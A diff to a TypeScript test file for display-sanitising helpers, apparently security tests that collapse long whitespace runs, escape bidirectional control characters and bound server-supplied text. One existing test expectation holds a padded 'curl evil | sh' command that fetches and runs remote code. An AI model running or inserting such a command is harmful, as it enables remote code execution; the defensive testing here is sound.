@@ -1,5 +1,5 @@
 import t from 'tap';
-import { shownJson, shownText, withoutGaps } from '../../../machines/base/shown-json.ts';
+import { shownJson, shownText, withoutGaps, wordsOfServer } from '../../../machines/base/shown-json.ts';
 import { fc } from '../../support/property.ts';
 
 const hidden = [
@@ -39,5 +39,14 @@ t.test('SEC-2 · SEC-7 · many blanks in a row are shown as their number, and th
   t.match(shown, /\n {10}"e": "echo …\(5000 blanks\)… ; curl evil \| sh"\n/);
   t.equal(withoutGaps(`"${'\u2003'.repeat(9)}x"`), '" …(9 blanks)… x"', 'whatever blanks they are');
   t.equal(withoutGaps('a        b'), 'a        b', 'eight stay');
+  t.end();
+});
+
+t.test('SEC-7 · what a server says is one bounded line in quotes, with its name', (t) => {
+  t.equal(wordsOfServer('notes', ' Reads.\n\n  expires in\t300s ', 'tool'), 'notes says: “Reads. expires in 300s”');
+  t.equal(wordsOfServer('notes', 'a\u202eb', 'tool'), 'notes says: “a\\u202eb”');
+  t.equal(wordsOfServer('notes', 'x'.repeat(999), 'tool'), `notes says: “${'x'.repeat(240)}…”`);
+  t.equal(wordsOfServer('notes', 'x'.repeat(1_001), 'form'), `notes says: “${'x'.repeat(1_000)}…”`);
+  t.equal(wordsOfServer('notes', ' \n', 'tool'), '');
   t.end();
 });
